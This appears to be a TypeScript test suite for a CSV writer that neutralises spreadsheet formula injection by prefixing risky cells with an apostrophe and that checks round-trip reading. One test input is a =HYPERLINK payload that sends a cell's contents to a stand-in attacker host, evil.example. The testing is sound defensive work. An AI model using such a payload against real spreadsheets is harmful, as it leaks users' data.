import { parse } from 'csv-parse/sync';
import { csvCell, csvRow, readCsvCell } from './csv-cells';

const parsed = (csv: string): string[][] => parse(csv, { relax_column_count: true });

describe('CSV cells', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
    ['+1+2', `"'+1+2"`],
    ['-A1', `"'-A1"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    ["'=1", `"''=1"`],
  ])('writes %j, which a spreadsheet would read as a formula, as text: %s', (value, written) => {
    expect(csvCell(value)).toBe(written);
  });

  it('quotes only what CSV needs quoted, and leaves everything else as it is', () => {
    expect(csvRow(['abc', 'a-b', "O'Brien", 'a,b', 'say "hi"', 'two\nlines', '', 12])).toBe(`abc,a-b,O'Brien,"a,b","say ""hi""","two\nlines",,12\n`);
  });

  it('reads back every value exactly as it was before it was written', () => {
    const values = ['-abc', '--1', '=1+1', '+33 1 23', '@x', '\tx', '\rx', "'=x", "''-y", "'plain", "it's", 'a,b', '"q"', 'x\ny', 'ok', ''];
    const rows = parsed(values.map((v) => csvRow([v, 'second'])).join(''));
    expect(rows.map((row) => readCsvCell(row[0]))).toEqual(values);
    expect(rows.every((row) => row[1] === 'second')).toBe(true);
  });

  it('leaves an apostrophe it did not add', () => {
    expect(readCsvCell("'abc")).toBe("'abc");
    expect(readCsvCell("O'-x")).toBe("O'-x");
  });
});
